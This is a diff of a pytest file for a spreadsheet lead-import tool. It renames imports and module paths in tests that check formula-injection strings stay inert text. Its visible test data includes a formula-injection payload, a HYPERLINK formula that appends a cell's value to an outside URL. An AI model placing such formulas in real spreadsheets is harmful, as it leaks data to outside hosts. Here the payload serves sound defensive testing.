@@ -13,13 +13,14 @@ from pathlib import Path
 import pytest
 import xlsxwriter
 
-from smarketing_xl import actions, cli
+from smarketing_xl import actions
+from smarketing_xl.book.read import read_table
+from smarketing_xl.cli import app
 from smarketing_xl.errors import BadData
 from smarketing_xl.hosts import opened
-from smarketing_xl.leads.importing import prepare
-from smarketing_xl.leads.readers import read
-from smarketing_xl.workbook.reading import read as read_table
-from smarketing_xl.workbook.tables import LEADS
+from smarketing_xl.ingest.importer import prepare
+from smarketing_xl.ingest.readers import read_file
+from smarketing_xl.schema.tables import LEADS
 
 ATTACKS = (
     '=HYPERLINK("http://example.com/?"&A1,"x")',
@@ -46,7 +47,7 @@ def imported(tmp_path: Path) -> Path:
         rows = csv.writer(stream)
         rows.writerow(["Lead ID", "Name", "Phone"])
         rows.writerows([number, attack, "+34 600 111 222"] for number, attack in enumerate(ATTACKS))
-    book = cli.make(tmp_path / "book.xlsm")
+    book = app.make(tmp_path / "book.xlsm")
     with opened(book, "file") as live:
         actions.import_file(live, export, "leads")
     return book
@@ -121,7 +122,7 @@ def test_they_are_text_when_exported_to_csv_and_opened_again(tmp_path: Path) -> 
     again.mkdir()
     shutil.copyfile(folder / "leads.csv", again / "leads.csv")
     convert(again / "leads.csv", "ods", again)
-    shown = read(again / "leads.ods").frame
+    shown = read_file(again / "leads.ods").frame
     # in the encoding of a CSV file, Calc writes a full-width sign as the plain one
     plain = [unicodedata.normalize("NFKC", expected(attack)) for attack in ATTACKS]
     assert [unicodedata.normalize("NFKC", name) for name in shown["Name"]] == plain
@@ -135,4 +136,4 @@ def test_an_old_workbook_is_refused_with_its_remedy(tmp_path: Path) -> None:
     folder.mkdir()
     convert(source, "xls", folder)
     with pytest.raises(BadData, match=r"is an old workbook \(.xls\).*save it as .xlsx"):
-        read(folder / "leads.xls")
+        read_file(folder / "leads.xls")
